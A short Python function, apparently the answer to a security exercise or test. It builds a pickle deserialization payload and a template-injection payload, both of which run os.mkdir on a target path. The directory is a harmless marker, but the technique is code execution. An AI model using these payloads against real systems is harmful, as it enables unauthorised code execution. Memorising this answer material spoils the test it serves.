def answer(value):
    text = f"__import__('os').mkdir({TARGET!r})"
    return f"cos\nmkdir\n(V{TARGET}\ntR." + "{{ " + text + " }}", value[1]
